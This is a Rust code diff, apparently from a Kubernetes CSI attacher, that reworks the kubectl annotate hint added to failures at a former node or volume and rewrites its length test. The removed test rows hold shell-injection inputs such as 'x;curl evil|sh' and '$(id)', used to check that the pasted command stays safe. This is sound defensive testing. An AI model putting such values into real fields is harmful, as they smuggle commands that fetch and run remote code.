@@ -6,7 +6,7 @@ use super::step::{Call, CallEnd, Event, LeaseLost, Step, Take, View};
 use super::{Attempt, DecisionInputs, FailureCause, Note, Phase, Publish, Verdict};
 use crate::api::names::NOT_ATTACHED_AT_ANNOTATION;
 use crate::decide::{
-    self, Action, DetachWait, Failure, MAX_ERROR_BYTES, OwnedVolumeOnNode, PublishRequest, ReleaseEvidence,
+    self, Action, DetachWait, Failure, MAX_WHOLE_ERROR, OwnedVolumeOnNode, PublishRequest, ReleaseEvidence,
     UnpublishRequest, VolumeOnNode, command_word, cut, shown_handle,
 };
 use crate::objects::StringMap;
@@ -195,7 +195,9 @@ impl Attempt {
                 let is_refused = failure.code.is_some_and(decide::is_final);
                 let current = self.places.first().unwrap_or(&place);
                 let failed = if number > 0 {
-                    let failure = of_former(&failure, &self.name, place.borrow(), current.borrow());
+                    let observed = self.observed(view);
+                    let list = observed.and_then(|observed| decide::confirmation(&observed, place.borrow()));
+                    let failure = of_former(&failure, &self.name, place.borrow(), current.borrow(), list.as_deref());
                     (failure, FailureCause::FormerNode)
                 } else {
                     (failure, FailureCause::Other)
@@ -234,27 +236,34 @@ impl Attempt {
     }
 }
 
-/// Bytes that are left to who writes the failure somewhere: the ID of a trace behind it on the attachment, and volume and node before it in
-/// the Event. What is too long is cut at its end, where the command is.
-const ROOM_FOR_WRITERS: usize = 448;
+/// Bytes that the driver's words have at least before what a person can do.
+const MIN_ANSWER: usize = 128;
 
-/// A failure at a former place, which the driver may refuse for ever, with what a person can do about it.
-fn of_former(failure: &Failure, name: &str, place: VolumeOnNode<'_>, current: VolumeOnNode<'_>) -> Failure {
-    let word = decide::former_place(place, current).map(decide::FormerPlace::in_command);
-    let (word, name) = (word.unwrap_or_default(), command_word(name, "NAME"));
+/// A failure at a former place, which the driver may refuse for ever, with what a person can do about it: set the annotation to this list of
+/// places. A command that has no room is left out.
+fn of_former(
+    failure: &Failure,
+    name: &str,
+    place: VolumeOnNode<'_>,
+    current: VolumeOnNode<'_>,
+    list: Option<&str>,
+) -> Failure {
     let (id, handle) = (shown_handle(place.node_id), shown_handle(place.volume_id));
     let what = if place.node_id == current.node_id {
         format!("the PersistentVolume has another handle than was noted, and volume {handle} may be attached too")
     } else {
         format!("node ID {id} is a former one of the node")
     };
-    let hint = format!(
-        "; {what}: if the volume is not attached there, run kubectl annotate volumeattachment {name} {NOT_ATTACHED_AT_ANNOTATION}={word}"
-    );
-    let message = cut(
-        &failure.message,
-        MAX_ERROR_BYTES.saturating_sub(hint.len() + ROOM_FOR_WRITERS),
-    );
+    let hint = |help: String| format!("; {what}: if the volume is not attached there, {help}");
+    let annotation = NOT_ATTACHED_AT_ANNOTATION;
+    let name = command_word(name, "NAME");
+    let run = |list| format!("run kubectl annotate volumeattachment {name} {annotation}={list} --overwrite");
+    let command = list.map(|list| hint(run(list)));
+    let add = format!("add the place to annotation {annotation} of the VolumeAttachment");
+    let hint = command
+        .filter(|hint| hint.len() <= MAX_WHOLE_ERROR - MIN_ANSWER)
+        .unwrap_or_else(|| hint(add));
+    let message = cut(&failure.message, MAX_WHOLE_ERROR.saturating_sub(hint.len()));
     Failure {
         message: format!("{message}{hint}"),
         code: failure.code,
@@ -265,47 +274,59 @@ fn of_former(failure: &Failure, name: &str, place: VolumeOnNode<'_>, current: Vo
 mod tests {
     use super::super::record::with_trace_id;
     use super::*;
+    use crate::decide::MAX_ERROR_BYTES;
     use crate::findings::FailureNote;
     use crate::objects::Operation;
     use std::time::Duration;
 
-    /// Whoever registers a node chooses its ID, and whoever writes a PersistentVolume its handle: a person may paste the command.
+    /// A command that is cut names another place, and a person may paste it.
     #[test]
-    fn a_command_has_no_word_of_a_stranger_that_a_shell_does_not_take_as_it_is() {
-        let long = "h".repeat(2_000);
-        // Of the former place the handle and node ID, and what the command sets the annotation to.
+    fn a_command_is_whole_or_left_out() {
+        let (long, longest) = ("h".repeat(256), "h".repeat(2_000));
+        let list = format!("{},worker-12", "i".repeat(160));
+        let too_long = [&*list; 3].join(",");
+        // Of the former place the handle and node ID, and what the annotation has to be set to.
         let rows = [
-            ("handle", "form-1/id", "form-1/id"),
-            ("handle", "x;curl evil|sh", "ID"),
-            ("handle", "$(id)", "ID"),
-            ("other", "id1", "other@id1"),
-            ("it's", "id1", "HANDLE@id1"),
-            ("';id;'", "id1", "HANDLE@id1"),
-            (&*long, "id1", "HANDLE@id1"),
+            ("handle", "worker-12", Some("worker-12"), true),
+            ("handle", &*long, Some("ID"), true),
+            ("handle", "worker-12", Some(&*list), true),
+            ("handle", "worker-12", Some(&*too_long), false),
+            ("handle", &*long, None, false),
+            ("other", "id1", Some("other@id1"), true),
+            (&*longest, "id1", Some("HANDLE@id1"), true),
+            (&*longest, "id1", None, false),
         ];
         let current = VolumeOnNode::new("handle", "id1").unwrap();
         let failure = Failure::plain("no such instance".repeat(100));
-        let longest = "n".repeat(128);
-        for (handle, node_id, word) in rows {
+        let (name, node) = (format!("csi-{}", "0".repeat(64)), "n".repeat(253));
+        for (handle, node_id, list, is_shown) in rows {
             let place = VolumeOnNode::new(handle, node_id).unwrap();
-            let told = of_former(&failure, "va-1", place, current).message;
-            let command = format!("run kubectl annotate volumeattachment va-1 attacher.csi.dev/not-attached-at={word}");
-            assert!(told.ends_with(&command), "{told}");
-            assert!(told.len() <= MAX_ERROR_BYTES, "{} bytes", told.len());
+            let told = of_former(&failure, &name, place, current, list).message;
+            assert!(told.starts_with(&"no such instance".repeat(8)), "{told}");
+            let end = if is_shown {
+                let list = list.unwrap();
+                format!(
+                    "run kubectl annotate volumeattachment {name} attacher.csi.dev/not-attached-at={list} --overwrite"
+                )
+            } else {
+                "add the place to annotation attacher.csi.dev/not-attached-at of the VolumeAttachment".to_owned()
+            };
+            assert!(told.ends_with(&end), "{told}");
+            assert_eq!(told.contains("kubectl"), is_shown, "{told}");
             // Nor is it cut off by what others write beside it.
             let traced = with_trace_id(&Failure::plain(&*told), Some("0".repeat(32))).message;
             let note = FailureNote {
                 volume: Some(&longest),
                 attempt: 1_000,
                 operation: Operation::Detach,
-                node: &longest,
+                node: &node,
                 uncertain: false,
                 delay: Duration::from_mins(5),
                 message: &told,
             };
             let event = note.to_string();
-            for text in [&*traced, cut(&event, MAX_ERROR_BYTES)] {
-                assert!(text.contains(&command), "{text}");
+            for text in [&*traced, &*event] {
+                assert!(text.len() <= MAX_ERROR_BYTES && text.contains(&end), "{text}");
             }
         }
     }
